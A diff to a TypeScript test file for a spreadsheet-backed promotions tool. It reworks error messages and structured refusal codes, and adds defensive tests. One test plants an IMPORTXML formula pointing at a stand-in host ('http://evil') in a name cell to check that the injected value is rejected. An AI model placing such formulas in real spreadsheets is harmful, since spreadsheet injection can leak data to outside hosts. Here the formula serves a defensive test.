@@ -1,5 +1,5 @@
 import type { TeamList } from '../../src/server/rpc';
-import { loadPromotionRuntime } from '../support/promotionWorkbook';
+import { loadPromotionRuntime, tamperPromotionWorkbook } from '../support/promotionWorkbook';
 
 describe('promotionsTeam', () => {
   const rt = loadPromotionRuntime([
@@ -33,12 +33,56 @@ describe('promotionsTeam', () => {
   });
 
   test('reports a row it cannot read instead of failing the whole list', () => {
-    expect(team.problems).toEqual(['Team row 4 (Linus): position "X9" is not on the ladder']);
+    expect(team.problems).toEqual([
+      'Team row 4 (Linus): position "X9" is not on the Ladder (D1–D7, EM4–EM7)',
+      'Team row 5: this row has data but no name',
+    ]);
   });
 
   test('refuses a payload that is not an empty object', () => {
-    expect(() => rt.run('promotionsTeam', { all: true })).toThrow(
-      'The request was refused (unexpected field(s) "all"). Nothing was changed.',
-    );
+    expect(rt.run('promotionsTeam', { all: true })).toEqual({
+      outcome: 'invalid-request',
+      message: 'The request was refused (unexpected field(s) "all"). Nothing was changed.',
+    });
+  });
+});
+
+describe('promotionsTeam with a formula typed as a name', () => {
+  const rt = loadPromotionRuntime([
+    { name: 'Ada', position: 'D2', step: 1 },
+    { name: 'Grace', position: 'D4', step: 2 },
+  ]);
+  tamperPromotionWorkbook(rt, `ss.getRange('Team!A3').setValue('=IMPORTXML("http://evil","//a")');`);
+  const team = rt.run('promotionsTeam', {}) as TeamList;
+
+  test('never lists the formula’s error value as an engineer', () => {
+    expect(team.members.map((m) => m.name)).toEqual(['Ada']);
+  });
+
+  test('lists the row as unreadable, saying why', () => {
+    expect(team.problems).toEqual([
+      'Team row 3: Name shows #NAME?, the error of a formula; type the value itself',
+    ]);
+  });
+});
+
+describe('promotionsTeam refusals carry a code the sidebar acts on', () => {
+  test('a workbook without its Team sheet is "not-set-up"', () => {
+    const rt = loadPromotionRuntime([{ name: 'Ada', position: 'D2', step: 1 }]);
+    tamperPromotionWorkbook(rt, `ss.deleteSheet(ss.getSheetByName('Team'));`);
+    expect(rt.run('promotionsTeam', {})).toEqual({
+      outcome: 'not-set-up',
+      message: 'This spreadsheet has no "Team" sheet. Run Career Ladder ▸ Set up workbook first.',
+    });
+  });
+
+  test('a Ladder that cannot be read is "unreadable", naming the cell’s row', () => {
+    const rt = loadPromotionRuntime([{ name: 'Ada', position: 'D2', step: 1 }]);
+    tamperPromotionWorkbook(rt, `ss.getRange('Ladder!C3').setValue('two');`);
+    expect(rt.run('promotionsTeam', {})).toEqual({
+      outcome: 'unreadable',
+      message:
+        'The Ladder sheet cannot be read: Ladder row 3: level "two" of D2 must be a whole number 1–20.',
+    });
   });
 });
